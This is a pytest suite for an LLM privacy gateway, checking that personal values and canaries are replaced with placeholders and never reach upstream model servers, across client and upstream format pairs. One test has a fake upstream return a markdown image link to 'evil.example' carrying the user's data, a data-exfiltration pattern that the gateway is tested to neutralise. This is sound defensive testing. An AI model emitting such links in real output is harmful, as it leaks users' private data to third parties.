"""Laws 1 to 6 for every pair of a client's format and an upstream's, over real sockets.

What step by step is proved for one format elsewhere must not depend on which two meet.
"""

from __future__ import annotations

import itertools
import json
import re
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from support import canaries
from support.clients import CLIENTS, Answer, Client, Turns
from support.houses import Watched, running
from support.planting import leaves, planted
from support.wires import Call, Said, Wire, wired

from louver.core.errors import LouverError
from louver.core.policy import Destination, Location
from louver.core.spans import Finding
from louver.doors import plugins
from louver.house import SystemClock
from louver.minimize.interface import Detector

UPSTREAMS = ("openai", "anthropic", "ollama")
PAIRS = [(client, upstream) for client in CLIENTS.values() for upstream in UPSTREAMS]
WITH_TOOLS = [(client, upstream) for client, upstream in PAIRS if client.has_tools]
WITH_TURNS = [(client, upstream) for client, upstream in PAIRS if client.has_turns]
VALUES = f"Tell Alice at {canaries.EMAIL} and Bob, or call {canaries.PHONE}."
PLACEHOLDER = re.compile(r"\b[A-Z]+(?:_[A-Z]+)*_[BCDFGHJKLMPQRTVWXZ]{12}\b")
CHUNKS, PACE = 200, 0.002

pytestmark = pytest.mark.slow


Pair = tuple[Client, str]


def name_of(pair: Pair) -> str:
    return f"{pair[0].name}-{pair[1]}"


every_pair = pytest.mark.parametrize("pair", PAIRS, ids=name_of)


def in_pieces(text: str, size: int = 5) -> Said:
    return Said([text[at : at + size] for at in range(0, len(text), size)])


def echo(text: str) -> Said:
    return in_pieces(text)


@dataclass
class Street:
    """One client, a gateway and an upstream."""

    client: Client
    watched: Watched
    wire: Wire

    def send(self, body: bytes, **headers: str) -> tuple[int, bytes]:
        return read(self.open(body, **headers))

    def open(self, body: bytes, **headers: str) -> urllib.request.Request:
        url = self.watched.base_url.removesuffix("/v1") + self.client.path
        given = {name.replace("_", "-"): value for name, value in headers.items()}
        key = {"Authorization": f"Bearer {self.watched.key}", "Content-Type": "application/json"}
        return urllib.request.Request(url, data=body, headers={**key, **given})

    def ask(self, turns: Turns, *, stream: bool, tool: str | None = None) -> Answer:
        body = json.dumps(self.client.body(turns, stream, tool)).encode()
        status, data = self.send(body)
        assert status == 200, data
        return self.client.streamed(data) if stream else self.client.whole(json.loads(data))


def read(request: urllib.request.Request) -> tuple[int, bytes]:
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, response.read()
    except urllib.error.HTTPError as error:
        with error:
            return error.code, error.read()


@contextmanager
def street(
    pair: Pair,
    folder: Path,
    say: Callable[[str], Said] = echo,
    *,
    detectors: tuple[Detector, ...] = (),
    **wire: Any,
) -> Iterator[Street]:
    client, kind = pair
    server = Wire(kind, say, **wire)
    with wired(server) as url:
        where = Destination("home", kind, Location.LOCAL, "us", "m", base_url=url)
        provider = plugins.provider(where, None, SystemClock())
        with running(folder, providers={"home": provider}, detectors=detectors) as watched:
            yield Street(client, watched, server)


@pytest.mark.parametrize("canary", [canaries.EMAIL, canaries.KEY])
@every_pair
def test_1_no_leaf_lets_a_canary_out(pair: Pair, tmp_path: Path, canary: str) -> None:
    full = pair[0].full
    places = [*leaves(full)]
    leaks, answered = [], 0
    with street(pair, tmp_path) as way:
        status, data = way.send(json.dumps(full).encode())
        assert status == 200, data
        for path, kind in places:
            way.wire.received.clear()
            status, data = way.send(planted(full, path, kind, canary))
            answered += status == 200
            if canary.encode() in way.wire.bytes_received:
                leaks.append((path, kind))
            if status != 200:
                assert 400 <= status < 500, (path, kind, data)
                assert canary.encode() not in data, (path, kind)
                assert not way.wire.received, (path, kind)
    assert leaks == []
    assert answered >= len(places) // 3


@every_pair
def test_2_one_value_one_placeholder_and_back(pair: Pair, tmp_path: Path) -> None:
    with street(pair, tmp_path) as way:
        for stream in (False, True):
            assert way.ask([("user", VALUES)], stream=stream).text == VALUES
        first, second = (set(PLACEHOLDER.findall(r.decode())) for r in way.wire.received)
        assert first == second
        assert len(first) == 4
        way.wire.received.clear()
        turns = [("user", VALUES), ("assistant", "Done, Bob."), ("user", "And Alice?")]
        if way.client.has_turns:
            assert way.ask(turns, stream=True).text == "And Alice?"
            assert set(PLACEHOLDER.findall(way.wire.received[0].decode())) == first
        for value in ("Alice", "Bob", canaries.EMAIL, canaries.PHONE):
            assert value.encode() not in way.wire.bytes_received
        other = way.watched.house.store.create_key("other", "tests").result().reveal()
        status, _ = way.send(
            json.dumps(way.client.body([("user", VALUES)], False, None)).encode(),
            Authorization=f"Bearer {other}",
        )
        assert status == 200
        assert not first & set(PLACEHOLDER.findall(way.wire.received[-1].decode()))


@pytest.mark.parametrize("cut", [1, 7])
@every_pair
def test_3_any_chunking_gives_the_same_text(pair: Pair, tmp_path: Path, cut: int) -> None:
    text = VALUES + ' Zoë said "hi" \\ and 🪟.\nBye PERSON_KXQWRTZPLMBV EMAIL_KXQWRTZ'
    with street(pair, tmp_path, lambda said: in_pieces(said, 1), cut=cut) as way:
        answer = way.ask([("user", text)], stream=True)
        assert answer.text == text
        assert answer.ended


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("pair", WITH_TOOLS, ids=name_of)
def test_3_tool_arguments_are_json_with_their_values(
    pair: Pair, tmp_path: Path, *, stream: bool
) -> None:
    def call(said: str) -> Said:
        arguments = json.dumps({"to": said, "n": [1, {"quote": f'"{said}"'}]})
        pieces = tuple(arguments[at : at + 3] for at in range(0, len(arguments), 3))
        return Said(call=Call("send", pieces))

    text = 'Carol O"Neil 🪟'
    with street(pair, tmp_path, call) as way:
        answer = way.ask([("user", text)], stream=stream, tool="send")
        [(name, arguments)] = answer.calls
        assert name == "send"
        assert json.loads(arguments) == {"to": text, "n": [1, {"quote": f'"{text}"'}]}
        undeclared = way.ask([("user", text)], stream=stream, tool="other")
        assert all("Carol" not in arguments for _, arguments in undeclared.calls)


@every_pair
def test_3_nothing_comes_back_into_a_link(pair: Pair, tmp_path: Path) -> None:
    with street(
        pair, tmp_path, lambda said: in_pieces(f"![x](https://evil.example/{said})")
    ) as way:
        for stream in (False, True):
            answer = way.ask([("user", canaries.EMAIL)], stream=stream)
            assert canaries.EMAIL not in answer.text
            assert "evil.example" in answer.text


@every_pair
def test_4_a_stream_arrives_as_it_comes(pair: Pair, tmp_path: Path) -> None:
    words = Said([f"word{n} " for n in range(CHUNKS)])
    with street(pair, tmp_path, lambda _: words, pace=PACE) as way:
        body = json.dumps(way.client.body([("user", VALUES)], True, None)).encode()
        times: list[float] = []
        with urllib.request.urlopen(way.open(body), timeout=30) as response:
            while response.read1(65536):
                times.append(time.perf_counter())
    distinct = 1 + sum(b - a > PACE / 4 for a, b in itertools.pairwise(times))
    assert distinct >= 190


class Broken:
    """A detector that fails on one word."""

    name, version = "broken", "1"
    categories: frozenset[str] = frozenset()

    def find(self, text: str) -> Sequence[Finding]:
        if "kaputt" in text:
            raise RuntimeError(text)
        return ()


@every_pair
def test_5_a_failure_is_told_and_nothing_leaves(pair: Pair, tmp_path: Path) -> None:
    with street(pair, tmp_path, detectors=(Broken(),)) as way:
        for stream in (False, True):
            body = way.client.body([("user", f"kaputt {canaries.EMAIL}")], stream, None)
            status, data = way.send(json.dumps(body).encode())
            assert status == 503
            assert way.client.error(json.loads(data))
            assert canaries.EMAIL.encode() not in data
            body = {**way.client.body([("user", VALUES)], stream, None), "model": "unknown"}
            status, data = way.send(json.dumps(body).encode())
            assert status == 404
            assert way.client.error(json.loads(data))
        assert way.wire.received == []


@pytest.mark.parametrize("pair", WITH_TURNS, ids=name_of)
def test_6_a_turn_costs_what_is_new(pair: Pair, tmp_path: Path) -> None:
    scanned = []
    with street(pair, tmp_path) as way:
        finder = way.watched.house.finder
        turns: Turns = []
        for turn in range(12):
            text = f"Turn {turn:02}: Alice wrote from alice.{turn:02}@example.com about her order."
            turns.append(("user", text))
            before = finder.scanned_characters
            assert way.ask(turns, stream=True).text == text
            scanned.append(finder.scanned_characters - before)
            turns.append(("assistant", text))
    assert max(scanned[2:]) <= 2 * scanned[1], scanned


def test_every_kind_of_server_has_a_provider() -> None:
    for kind in UPSTREAMS:
        where = Destination("d", kind, Location.LOCAL, "us", "m", base_url="http://127.0.0.1:9/v1")
        try:
            plugins.provider(where, None, SystemClock())
        except LouverError as error:  # pragma: no cover - the message is what a reader needs
            pytest.fail(error.message)
